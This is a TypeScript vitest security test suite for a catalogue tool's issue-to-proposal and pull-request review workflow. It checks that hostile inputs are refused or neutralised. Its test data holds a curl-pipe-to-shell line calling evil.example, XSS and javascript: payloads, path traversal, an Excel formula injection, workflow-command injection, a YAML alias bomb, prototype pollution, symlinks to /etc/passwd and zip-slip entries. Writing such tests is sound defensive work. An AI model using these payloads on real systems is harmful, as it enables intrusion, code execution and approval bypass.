import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import type { ReviewFacts } from '../scripts/model/review-facts.ts';
import { MOST_COMMENT, NOT_ANALYSED, REVIEW_MARKER } from '../scripts/review/comment-frame.ts';
import { call } from './support/call.ts';
import { ECHO, SPECIALITY, settings, speciality, visitType } from './support/fixture.ts';
import { digests } from './support/folder.ts';
import { issueBody, PROPOSAL_FILES } from './support/proposal.ts';
import { type Ran, run, runGit } from './support/run.ts';
import { approvalFacts, type PullRequest } from './support/story.ts';
import { tempCatalogue } from './support/temp-catalogue.ts';
import { type TempRepository, tempRepository } from './support/temp-repository.ts';

const NUMBER = 13;
const REPOSITORY = 'region/katalog';
const FOLDER = 'specialities/kardiologi/visit-types';
const TEAMS = {
  '@region/kardiologi': ['hanne', 'helle', 'henrik'],
  '@region/koordination': ['karen', 'kirsten', 'knud'],
  '@region/tooling': ['thea', 'tom', 'tove'],
};
const SETTINGS = settings(`groups:
  - {id: koordinationsgruppen, name: Koordinationsgruppen, team: '@region/koordination', confirmed: false}
  - {id: kardiologi, name: Kardiologi, team: '@region/kardiologi', confirmed: false}
  - {id: tooling, name: Værktøj, team: '@region/tooling', confirmed: false}`);

/** The fixture with all that a proposal needs, committed on main. */
const repository = (): Promise<TempRepository> => tempRepository({ ...PROPOSAL_FILES, 'settings.yaml': SETTINGS });

/** What GitHub would make of a text that we put there: nothing but text, our own marker, folds and links. */
function expectHarmless(text: string): void {
  const ours = new RegExp(
    `https://github\\.com/${REPOSITORY}/(?:blob|edit)/[\\w/-]+/catalogue/[\\w./-]+(?:\\?plain=1)?#L\\d+`,
    'g',
  );
  const theirs = text
    .replace(ours, 'OURS')
    .replace(/<\/?details>|<\/?summary>/g, '')
    .replace(/^<!-- besoegstypekatalog:review -->\n/, '')
    .replace(/^Foreslået i #12\.$/m, '');
  expect(theirs).not.toMatch(/@[\w]/);
  expect(theirs).not.toMatch(/<[a-z!/]/i);
  expect(theirs).not.toMatch(/(?<!\\)\]\((?!OURS)|https?:\/\//);
  expect(theirs).not.toMatch(/(?<!\\)#\d/);
  expect(theirs.replace(/[\n\t]/g, '')).not.toMatch(/[\p{Cc}\u202A-\u202E\u2066-\u2069\u200B-\u200F]/u);
}

/** The comment on what is committed on the branch, made as the two workflows make it. */
async function comment({ folder }: TempRepository, branch: string): Promise<{ facts: Ran; text: string }> {
  const about = ['--number', String(NUMBER), '--head', await runGit(folder, 'rev-parse', 'HEAD')];
  const facts = await call(folder, 'review', '--base', 'main', '--format', 'json', ...about);
  expect(facts).toMatchObject({ code: 0, stderr: '' });
  mkdirSync(join(folder, 'dist'), { recursive: true });
  writeFileSync(join(folder, 'dist/review.json'), facts.stdout);
  const links = ['--repository', REPOSITORY, '--branch', branch];
  const { code, stdout, stderr } = await call(folder, 'review', '--render', 'dist/review.json', ...about, ...links);
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  expect(stdout.length).toBeLessThan(MOST_COMMENT);
  expectHarmless(stdout);
  return { facts, text: stdout };
}

describe('a hostile issue', () => {
  const WHY = 'Hvorfor dur de eksisterende typer ikke?';

  // Each ends with an answer that says what to mend, and with nothing written.
  test.each<[attack: string, body: string, told: string, neverSaid?: string]>([
    [
      'a heading of the form within an answer does not overwrite the field',
      issueBody({ [WHY]: 'Ingen dur.\n\n### Speciale\n\nFælles for flere specialer' }),
      '- **Speciale**: Overskriften "Speciale" står flere gange, så vi kan ikke se, hvilket svar der gælder: lad den stå én gang.',
    ],
    [
      'a heading that looks like one of the form',
      issueBody({ [WHY]: '> ##   speciale:\n\nFælles' }),
      'er skrevet som en overskrift, men er ingen af formularens',
    ],
    [
      'the whole form twice',
      `${issueBody()}\n\n${issueBody({ Navn: 'Andet' })}`,
      'Overskriften "Navn" står flere gange',
    ],
    [
      'a heading that is a key of every object',
      `${issueBody()}\n\n### __proto__\n\nx`,
      '"\\_\\_proto\\_\\_" er skrevet som en overskrift',
    ],
    ['a shell in the name', issueBody({ Navn: 'Gangtest $(curl evil.example | sh)' }), 'indeholder tegnet $'],
    ['a script in the name', issueBody({ Navn: 'Gangtest <script>alert(1)</script>' }), 'indeholder tegnet &lt;'],
    ['YAML in the name', issueBody({ Navn: 'Gangtest\nowners: [alle]' }), '- **Navn**:'],
    ['a path as the speciality', issueBody({ Speciale: '../../.github/workflows' }), 'kan ikke vælges'],
    [
      'a name that Windows keeps for itself',
      issueBody({ Navn: 'Aux' }),
      '"aux.yaml" er reserveret i Windows: vælg et andet navn.',
    ],
    [
      'a name that turns the line around',
      issueBody({ Navn: 'Gang\u202Etset' }),
      'usynligt tegn \\(U+202E\\)',
      '\u202E',
    ],
    ['a name with a Cyrillic letter', issueBody({ Navn: 'G\u0430ngtest' }), '- **Navn**:'],
    ['a formula', issueBody({ Synonymer: '=cmd|x' }), 'kan blive en formel i Excel'],
    ['a NUL', issueBody({ Beskrivelse: 'Test\u0000af hjertet.' }), 'usynligt tegn \\(U+0000\\)', '\u0000'],
    ['a body of one megabyte', issueBody({ [WHY]: 'x'.repeat(1_000_000) }), 'Teksten er over 65536 tegn', 'xxx'],
    ['a CPR number', issueBody({ [WHY]: 'Fx 010190-1234.' }), 'ligner et CPR-nummer', '1234'],
  ])('is refused: %s', async (_, body, told, neverSaid) => {
    const { folder } = tempCatalogue({ ...PROPOSAL_FILES, 'settings.yaml': SETTINGS });
    writeFileSync(join(folder, 'body.md'), body);
    const before = digests(folder);
    const { code, stdout, stderr } = await call(folder, 'propose', '--body', 'body.md', '--number', '12', '--write');
    expect({ code, stderr }).toEqual({ code: 1, stderr: '' });
    expect(digests(folder)).toEqual(before);
    const { answer, ...rest } = JSON.parse(stdout);
    expect(rest).toEqual({ ok: false, branch: null, path: null, title: null, body: null });
    expect(answer).toContain(told);
    if (neverSaid !== undefined) expect(answer).not.toContain(neverSaid);
    expect(answer.length).toBeLessThan(5000);
    expectHarmless(answer);
  });

  const MARKUP =
    '@alle @region/koordination <img src=x onerror=alert(1)> [her](javascript:alert(1)) http://evil.example #1';

  // Each goes on as what it is, a text: in its own file, branch, pull request and comment.
  test.each<[attack: string, changed: Readonly<Record<string, string>>]>([
    ['mentions, HTML and links in the reasons', { [WHY]: MARKUP, 'Hvad svarede de?': `${REVIEW_MARKER}\n${MARKUP}` }],
    ['HTML and a shell in the description', { Beskrivelse: `$(id) \`id\` <script>alert(1)</script> ${MARKUP}` }],
    ['YAML in the description', { Beskrivelse: "x\nowners: [alle] # '&a *a !!js/function\n---\nid: andet" }],
    ['a name that is a path out of the folder', { Navn: '../../../.github/workflows/validate.yml' }],
    ['a name that is a branch', { Navn: 'Release/next', Forkortelse: '_No response_' }],
    ['a workflow command in the synonyms', { Synonymer: '::set-output name=x::y\n::error::%0A' }],
  ])('is made harmless: %s', async (_, changed) => {
    const made = await repository();
    writeFileSync(join(made.folder, '.git/body.md'), issueBody(changed));
    const ran = await call(made.folder, 'propose', '--body', '.git/body.md', '--number', '12', '--write');
    expect(ran).toMatchObject({ code: 0, stderr: '' });
    const { branch, path, title, body, answer } = JSON.parse(ran.stdout);
    expect(branch).toMatch(/^forslag\/kardiologi-[a-z0-9]+(?:-[a-z0-9]+)*$/);
    expect(path).toBe(`catalogue/${FOLDER}/${branch.slice('forslag/kardiologi-'.length)}.yaml`);
    expect(await runGit(made.folder, 'status', '--porcelain', '--untracked-files=all')).toBe(`?? ${path}`);
    for (const text of [title, body, answer]) expectHarmless(text);
    await runGit(made.folder, 'switch', '--quiet', '--create', branch);
    await made.commit(title);
    const { facts, text } = await comment(made, branch);
    expect(JSON.parse(facts.stdout).totals).toMatchObject({ changes: 1, errors: 0, notCompared: 0 });
    expect(text).toContain('**1 ny besøgstype.**');
  });
});

describe('a hostile pull request', () => {
  /** A branch of somebody with `change` done to it. */
  async function pull(change: (made: TempRepository) => void, branch = 'bidrag') {
    const made = await repository();
    const base = await runGit(made.folder, 'rev-parse', 'HEAD');
    await runGit(made.folder, 'switch', '--quiet', '--create', branch);
    change(made);
    await made.commit('Contribution');
    return { ...made, branch, base, head: await runGit(made.folder, 'rev-parse', 'HEAD') };
  }
  type Pull = Awaited<ReturnType<typeof pull>>;

  function put({ folder }: TempRepository, path: string, content: string): void {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), content);
  }

  let asked = 0;
  /** The decision on what git says was changed, with the contributor's branch checked out. */
  async function decided({ folder, base, head }: Pull, facts: Partial<PullRequest>): Promise<Ran> {
    const listing = await runGit(folder, 'diff', '--name-status', '--find-renames', '-z', base, head);
    const fields = listing.split('\0').filter((field) => field !== '');
    const files: PullRequest['files'][number][] = [];
    while (fields.length > 0) {
      const [status = '', path = ''] = fields.splice(0, 2);
      if (status.startsWith('R')) files.push({ status: 'renamed', previousPath: path, path: fields.shift() ?? '' });
      else files.push({ status: { A: 'added', D: 'removed' }[status] ?? 'modified', path });
    }
    const known = { number: NUMBER, base, head, author: 'eve', files, teams: TEAMS, approvedBy: [] };
    const file = join('.git', `approvals-${asked++}.json`);
    writeFileSync(join(folder, file), approvalFacts({ ...known, ...facts }));
    return call(folder, 'approvals', '--facts', file);
  }

  test('a symlink in the catalogue is an error and is never followed', async () => {
    const made = await pull(({ catalogue }) => {
      symlinkSync('/etc/passwd', join(catalogue, FOLDER, 'hemmeligt.yaml'));
      symlinkSync('/etc', join(catalogue, 'specialities/etc'));
    });
    const [{ code, stdout }, { facts, text }, bundled] = await Promise.all([
      run(made.folder, 'validate'),
      comment(made, made.branch),
      run(made.folder, 'bundle', '--out', 'dist/bundle'),
    ]);
    expect(code).toBe(1);
    expect(stdout).toContain(`catalogue/${FOLDER}/hemmeligt.yaml:1:1 fejl no-special-file`);
    expect(stdout).toContain('catalogue/specialities/etc:1:1 fejl no-special-file');
    expect(stdout).not.toContain('root:');
    expect(text).toContain('Filen er en genvej (symlink): læg selve filen her.'.replace(/[()]/g, '\\$&'));
    expect(facts.stdout).not.toContain('root:');
    expect(bundled.code).toBe(1);
    expect(existsSync(join(made.folder, 'dist/bundle'))).toBe(false);
  });

  test('a huge change is told in one comment, and is not approved on a part of it', async () => {
    const made = await pull(({ write }) => {
      for (let index = 0; index < 700; index++) {
        const id = `nummer-${index}`;
        write(
          `${FOLDER}/${id}.yaml`,
          visitType(`id: ${id}`, `name: ${'<b>@alle '.repeat(30)}${index}`, 'abbreviation!'),
        );
      }
      write(`${FOLDER}/stor.yaml`, `id: stor\n# ${'x'.repeat(300_000)}\n`);
    });
    const { facts, text } = await comment(made, made.branch);
    expect(facts.stdout.length).toBeLessThan(1_000_000);
    expect(text).toMatch(/… og \d{3,} til/);
    expect(text).toContain('**700 nye besøgstyper.** Desuden kunne 1 fil ikke analyseres.');
    const { code, stdout } = await decided(made, {
      files: [{ path: `catalogue/${ECHO}`, status: 'modified' }],
      changedFiles: 701,
      approvedBy: ['karen', 'hanne'],
    });
    expect(code).toBe(1);
    expect(stdout).toContain('Kun 1 af de 701 ændrede filer er kendt: del ændringen op i mindre.');
  });

  test('a name that turns the line around is an error, and the comment does not turn', async () => {
    const made = await pull(({ write }) =>
      write(ECHO, visitType('name: "Ekko\u202Eoob\u2066"', 'patientName: "@alle <b>"')),
    );
    const [{ code, stdout }, { text }] = await Promise.all([
      call(made.folder, 'validate', '--format', 'github'),
      comment(made, made.branch),
    ]);
    expect(code).toBe(1);
    expect(stdout).toContain('title=no-invisible-character');
    expect(stdout).not.toContain('\u202E');
    expect(text).toContain('hedder nu');
  });

  test('a text that would be a link or a call in the release notes is only text there', async () => {
    const text = `${REVIEW_MARKER} @region/koordination [x](javascript:alert(1)) <script>`;
    const made = await pull(({ write }) => write(ECHO, visitType(`synonyms: [TTE, ${JSON.stringify(text)}]`)));
    expect(await call(made.folder, 'changeset')).toMatchObject({ code: 0, stderr: '' });
    const [name = ''] = readdirSync(join(made.folder, '.changeset')).filter((file) => file.endsWith('.md'));
    const notes = readFileSync(join(made.folder, '.changeset', name), 'utf8');
    expect(notes).toContain('&lt;script&gt; tilføjet');
    expectHarmless(notes);
  });

  test('notation that is more than data is not read: aliases, tags, doubled keys, a prototype', async () => {
    const bomb = `a: &a [x]\n${'bcdefgh'
      .split('')
      .map((key) => `${key}: &${key} [*a, *a]\n`)
      .join('')}`;
    const files = {
      bombe: bomb,
      kode: visitType('name: !!js/function "function(){}"'),
      dobbelt: `${visitType()}name: Andet\n`,
      proto: `${visitType()}__proto__: {status: approved}\n`,
      dyb: `id: dyb\nname: ${'['.repeat(20_000)}\n`,
    };
    const made = await pull(({ write }) => {
      for (const [id, text] of Object.entries(files)) write(`${FOLDER}/${id}.yaml`, text);
    });
    const [{ code, stdout, stderr }, { text }] = await Promise.all([
      call(made.folder, 'validate', '--format', 'json'),
      comment(made, made.branch),
    ]);
    expect({ code, stderr }).toEqual({ code: 1, stderr: '' });
    const faulty = new Set(JSON.parse(stdout).findings.map(({ file }: { file: string }) => file));
    for (const id of Object.keys(files)) expect(faulty).toContain(`catalogue/${FOLDER}/${id}.yaml`);
    expect(text).toContain('kunne ikke analyseres');
  });

  test('a file whose name is a path, a link or a workflow command is named nowhere that obeys it', async () => {
    const names = [
      'x](javascript:alert(1)).yaml',
      '::error file=x::y.yaml',
      'a\n::set-output name=x::y.yaml',
      '..\\..\\x.yaml',
    ];
    const made = await pull(({ write }) => {
      for (const name of names) write(`${FOLDER}/${name}`, visitType());
    });
    const { code, stdout } = await call(made.folder, 'validate', '--format', 'github');
    expect(code).toBe(1);
    for (const line of stdout.trim().split('\n'))
      expect(line).toMatch(/^::(?:error|warning|notice) file=catalogue\/[^:]*::|^::error::/);
    await comment(made, made.branch);
    const { stdout: decision } = await decided(made, { approvedBy: ['karen', 'hanne'] });
    expect(decision).toMatch(/^## Kan ikke afgøres\n/);
    expect(decision).not.toMatch(/javascript|set-output/);
  });

  test('a contributor who writes new owners approves nothing by them: the policy is of the base', async () => {
    const made = await pull((repo) => {
      put(repo, 'CODEOWNERS', '* @eve @mallory\n');
      repo.write(
        'settings.yaml',
        SETTINGS.replace('@region/kardiologi', '@evil/kardiologi').replace(
          '@region/koordination',
          '@evil/koordination',
        ),
      );
      repo.write(SPECIALITY, speciality('owners: [koordinationsgruppen]'));
      repo.write(ECHO, visitType('selfBooking: open'));
    });
    const evil = { '@evil/kardiologi': ['mallory'], '@evil/koordination': ['eve', 'trudy'] };
    const theirs = await decided(made, { teams: { ...TEAMS, ...evil }, approvedBy: ['mallory', 'trudy', 'eve'] });
    expect(theirs.code).toBe(1);
    expect(theirs.stdout).toMatch(/^## Mangler: Kardiologi; Koordinationsgruppen; Værktøj\n/);
    const { facts } = await comment(made, made.branch);
    expect(JSON.parse(facts.stdout).approvals).toEqual([
      { groups: ['Kardiologi'] },
      { groups: ['Koordinationsgruppen'] },
      { groups: ['Værktøj'] },
    ]);
    expect(await decided(made, { approvedBy: ['hanne', 'karen', 'tom'] })).toMatchObject({ code: 0 });
  });

  test('what decides the checks, beside a type, is not approved by those who own the type', async () => {
    const paths = [
      ...['.github/workflows/validate.yml', '.github/workflows/x.yaml', '.github/CODEOWNERS', '.npmrc'],
      ...['scripts/review/decide-approval.ts', '.changeset/config.json', 'schema/review-facts.schema.json'],
    ];
    const made = await pull((repo) => {
      for (const path of paths) put(repo, path, 'on: pull_request_target\n');
      repo.write(ECHO, visitType('synonyms: [TTE, UL]'));
    });
    const type = { path: `catalogue/${ECHO}`, status: 'modified' };
    const approvedBy = ['hanne', 'karen', 'kirsten'];
    const waiting = { code: 1, stdout: expect.stringMatching(/^## Mangler: Værktøj\n/) };
    const all = paths.map(async (path) => {
      const files = [type, { path, status: 'added' }];
      expect(await decided(made, { files, approvedBy }), path).toMatchObject(waiting);
    });
    await Promise.all(all);
    expect(await decided(made, { files: [type], approvedBy })).toMatchObject({ code: 0 });
  });

  test('a type moved out of its speciality is not hidden from its owners', async () => {
    const made = await pull(({ catalogue }) => {
      mkdirSync(join(catalogue, 'common/visit-types'), { recursive: true });
      renameSync(join(catalogue, ECHO), join(catalogue, 'common/visit-types/ekkokardiografi.yaml'));
    });
    const { code, stdout } = await decided(made, { approvedBy: ['karen'] });
    expect(code).toBe(1);
    expect(stdout).toMatch(/^## Mangler: Kardiologi\n/);
    expect((await comment(made, made.branch)).text).not.toContain('Ingen ændringer');
  });

  test('a branch name that is a shell or a link goes into no address', async () => {
    const branch = "x$(id)';(evil)";
    const made = await pull(({ write }) => write(ECHO, visitType('name: Ekko 30 min')), branch);
    const { text } = await comment(made, branch);
    expect(text).toContain(`https://github.com/${REPOSITORY}/blob/${made.head}/catalogue/${ECHO}?plain=1#L`);
    expect(text).not.toMatch(/\$\(id\)|evil/);
  });

  test('a result that its own workflow forged is only text, or nothing', async () => {
    const made = await pull(({ write }) => write(ECHO, visitType('synonyms: [TTE, UL]')));
    const genuine = JSON.parse((await comment(made, made.branch)).facts.stdout) as ReviewFacts;
    const render = (forged: object, name: string): Promise<Ran> => {
      writeFileSync(join(made.folder, 'dist', name), JSON.stringify({ ...genuine, ...forged }));
      const about = ['--number', String(NUMBER), '--head', made.head, '--repository', REPOSITORY];
      return call(made.folder, 'review', '--render', join('dist', name), ...about);
    };
    const sentence = `${REVIEW_MARKER} @alle [x](javascript:alert(1)) <script>`;
    const told = await render({ changes: genuine.changes.map((change) => ({ ...change, sentence })) }, 'told.json');
    expect(told.stdout).toContain('&lt;script&gt;');
    expectHarmless(told.stdout);
    const refused: Readonly<Record<string, object>> = {
      'its-own-markdown': { body: '# Godkendt' },
      'another-pull-request': { number: 1 },
      'another-commit': { head: 'b'.repeat(40) },
      'told-as-nothing': { outcome: 'same', bump: null, changes: [], kinds: [] },
      megabytes: { changes: Array.from({ length: 9_000 }, () => genuine.changes[0]) },
    };
    const all = Object.entries(refused).map(async ([name, forged]) => {
      expect(await render(forged, `${name}.json`), name).toEqual({ code: 0, stdout: NOT_ANALYSED, stderr: '' });
    });
    await Promise.all(all);
  });

  test('a bundle with paths that leave its folder is refused, and nothing of it is written', async () => {
    const made = await repository();
    await call(made.folder, 'bundle', '--out', 'dist/real');
    const name = 'sp-besoegstyper-0.1.0-draft';
    const entries = unzipSync(readFileSync(join(made.folder, `dist/real/${name}.zip`)));
    const paths = [`${name}/../../evil.txt`, '../evil.txt', '/tmp/evil.txt', 'C:\\evil.txt'];
    const evil = Object.fromEntries(paths.map((path) => [path, Buffer.from('x')]));
    writeFileSync(join(made.folder, 'dist/evil.zip'), zipSync({ ...entries, ...evil }, { level: 0 }));
    const verified = await run(made.folder, 'verify', 'dist/evil.zip');
    expect(verified.code).toBe(1);
    for (const path of paths)
      expect(verified.stdout).toContain(`et ulovligt navn (${JSON.stringify(path)}): pak det ikke ud.\n`);
    const built = await run(made.folder, 'bundle', '--previous', 'dist/evil.zip', '--out', 'dist/next');
    expect(built).toMatchObject({ code: 2, stdout: '' });
    expect(built.stderr).toMatch(/^Det forrige bundt "dist\/evil\.zip" er ikke i orden: /);
    expect(readdirSync(join(made.folder, 'dist'))).toEqual(['evil.zip', 'real']);
    expect(existsSync(join(made.folder, '..', 'evil.txt'))).toBe(false);
  });
});
